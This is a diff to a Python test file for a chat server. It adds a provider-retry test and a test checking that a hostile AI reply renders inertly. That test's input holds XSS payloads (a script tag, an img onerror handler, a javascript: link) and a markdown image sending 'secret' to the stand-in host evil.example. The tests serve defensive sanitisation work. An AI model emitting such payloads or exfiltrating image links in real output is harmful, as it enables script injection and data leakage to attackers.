@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import re
 import sqlite3
 import threading
 import time
@@ -450,3 +451,31 @@ def test_shutdown_saves_a_running_reply_as_interrupted(start_server, fake, tmp_p
     again = start_server(settings, data_dir=app.data_dir)
     saved = again.get(f"/api/messages/{message_id}").json()
     assert saved["status"] == "interrupted" and saved["content"] == "partial answer"
+
+
+def test_server_errors_are_retried_then_reported(app, fake):
+    fake.script(Reply(status=503), Reply(status=503), Reply(status=500))
+    session = app.new_session()
+    response = app.post(f"/api/sessions/{session['id']}/chat/stream", {"message": "hello"})
+    assert response.status_code == 502
+    assert response.json()["error"]["code"] == "provider_unavailable"
+    assert len(fake.chat_requests()) == 3
+
+
+def test_a_hostile_reply_stays_inert(app, fake):
+    hostile = (
+        '<script>alert(1)</script> <img src=x onerror="alert(2)"> '
+        "[click](javascript:alert(3)) ![leak](https://evil.example/?q=secret)"
+    )
+    fake.script(Reply(text=hostile, chunks=[hostile[i:i + 7] for i in range(0, len(hostile), 7)]))
+    session = app.new_session()
+    events = app.chat(session["id"], {"message": "hi"})
+    rendered = [data["tail"] + "".join(data["blocks"]) for e, data in events if e == "render"]
+    final = events[-1][1]["message"]["html"]
+    for html in [*rendered, final]:
+        assert "<script" not in html and "<img" not in html
+        assert not re.search(r"<[^>]*\son\w+=", html), html  # no event-handler attribute
+        assert 'href="javascript' not in html
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in final
+    assert "[click](javascript:alert(3))" in final  # shown as text, not a link
+    assert '<a class="image-link" href="https://evil.example/?q=secret"' in final
